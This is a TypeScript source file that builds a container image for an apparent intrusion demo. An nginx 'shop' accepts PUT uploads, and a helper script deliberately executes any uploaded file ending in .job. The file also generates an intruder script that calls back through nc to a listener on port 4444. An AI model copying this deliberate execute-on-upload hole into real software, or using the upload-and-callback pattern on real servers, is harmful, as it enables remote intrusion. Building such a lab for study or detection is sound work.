import { execFile } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { promisify } from 'node:util';
import { CliError, exit } from '../exit.js';
import { type TarEntry, tar } from './tar.js';

/** Where the shop keeps what was uploaded; what is dropped there is the intruder's way in. */
export const dropped = '/srv/done';
export const peerPort = 4444;

/** Starts the shop: what looks after the uploads, then the web server in the place of this shell. */
const entrypoint = `#!/bin/sh
/helper.sh &
exec /usr/sbin/nginx
`;

/** The hole, as careless software has it: notes are counted, but an upload named *.job is simply run. */
const helper = `#!/bin/sh
while true; do
  for file in /srv/upload/*; do
    [ -f "$file" ] || continue
    chmod 755 "$file"
    mv "$file" ${dropped}/
    case "$file" in
      *.txt) wc -c "${dropped}/\${file##*/}" ;;
      *.job) "${dropped}/\${file##*/}" ;;
    esac
  done
  usleep 200000
done
`;

const configuration = `user www-data;
worker_processes 1;
daemon off;
pid /run/nginx.pid;
error_log stderr warn;
events { worker_connections 256; }
http {
  access_log off;
  client_max_body_size 16m;
  client_body_temp_path /srv/tmp;
  server {
    listen 80;
    root /srv/www;
    location /upload/ { root /srv; dav_methods PUT; dav_access user:rw group:r all:r; }
  }
}
`;

/** Calls the shop every 50 ms and tells after each call how many there were and how many failed. */
const client = `#!/bin/sh
calls=0 failed=0
while true; do
  calls=$((calls + 1))
  wget -q -T 2 -O /dev/null http://shop/ || failed=$((failed + 1))
  echo "$calls $failed"
  usleep 50000
done
`;

/** Uploads a file by PUT: put.sh FILE NAME. The shop takes it for a call like any other of this client. */
const put = `#!/bin/sh
{ printf 'PUT /upload/%s HTTP/1.0\\r\\nHost: shop\\r\\nContent-Length: %s\\r\\n\\r\\n' "$2" "$(stat -c %s "$1")"; cat "$1"; } | nc -w 3 shop 80
`;

/** Listens where the intruder's program phones; what arrives is thrown away. */
const peer = `#!/bin/sh
while true; do nc -l -p ${peerPort} > /dev/null; done
`;

const applets = ['sh', 'chmod', 'mv', 'wc', 'wget', 'usleep', 'stat', 'cat', 'nc', 'sleep'];

/** The shop's image: Debian's nginx with the libraries it names, busybox, and the files above. Throws when nginx or its libraries cannot be read. */
export async function shopImage(
  nginx: string,
  busybox: string,
): Promise<{ readonly archive: Buffer; readonly libraries: number; readonly version: string }> {
  const libraries = await librariesOf(nginx);
  const { stderr } = await promisify(execFile)(nginx, ['-v']);
  const entries: TarEntry[] = [
    ...folders([
      'bin',
      'etc/nginx',
      'run',
      'srv/www',
      'tmp',
      'usr/sbin',
      'var/log/nginx',
      'var/lib/nginx',
      ...libraries.map(path => path.slice(1, path.lastIndexOf('/'))),
    ]),
    { kind: 'folder', path: 'srv/upload', mode: 0o755, uid: 33 },
    { kind: 'folder', path: dropped.slice(1), mode: 0o755 },
    { kind: 'folder', path: 'srv/tmp', mode: 0o755, uid: 33 },
    { kind: 'file', path: 'usr/sbin/nginx', mode: 0o755, content: readFileSync(nginx) },
    { kind: 'file', path: 'bin/busybox', mode: 0o755, content: readFileSync(busybox) },
    ...libraries.map(path => ({ kind: 'file' as const, path: path.slice(1), mode: 0o755, content: readFileSync(path) })),
    ...applets.map(name => ({ kind: 'link' as const, path: `bin/${name}`, target: 'busybox' })),
    text('etc/passwd', 'root:x:0:0::/:/bin/sh\nwww-data:x:33:33::/srv:/bin/sh\n', 0o644),
    text('etc/group', 'root:x:0:\nwww-data:x:33:\n', 0o644),
    text('etc/nginx/nginx.conf', configuration, 0o644),
    text('srv/www/index.html', '<h1>shop</h1>\n', 0o644),
    text('entrypoint.sh', entrypoint, 0o755),
    text('helper.sh', helper, 0o755),
    text('client.sh', client, 0o755),
    text('put.sh', put, 0o755),
    text('peer.sh', peer, 0o755),
    text('note.txt', 'a note of a customer\n', 0o644),
  ];
  return { archive: tar(entries), libraries: libraries.length, version: stderr.trim().replace(/^nginx version: nginx\//, '') };
}

/** What the intruder uploads beside a copy of busybox named nc: it phones the peer. */
export function intruderScript(address: string): string {
  return `#!/bin/sh\necho here | ${dropped}/nc -w 2 ${address} ${peerPort}\n`;
}

function text(path: string, content: string, mode: number): TarEntry {
  return { kind: 'file', path, mode, content: Buffer.from(content) };
}

/** Each folder with those above it, once, from the top. */
function folders(paths: readonly string[]): readonly TarEntry[] {
  const all = new Set<string>();
  for (const path of paths) {
    const parts = path.split('/');
    for (let depth = 1; depth <= parts.length; depth += 1) all.add(parts.slice(0, depth).join('/'));
  }
  return [...all].sort().map(path => ({ kind: 'folder', path, mode: path === 'tmp' ? 0o1777 : 0o755 }));
}

/** The libraries and the loader that a program names, as absolute paths. */
async function librariesOf(program: string): Promise<readonly string[]> {
  const { stdout } = await promisify(execFile)('ldd', [program]);
  const found = [...stdout.matchAll(/(?:=> )?(\/\S+) \(0x/g)].map(match => match[1]!);
  if (found.length === 0 || /not found/.test(stdout))
    throw new CliError(exit.failed, 'demo', `the libraries of ${program} cannot be told:\n${stdout}`, `see what "ldd ${program}" says`);
  return [...new Set(found)];
}
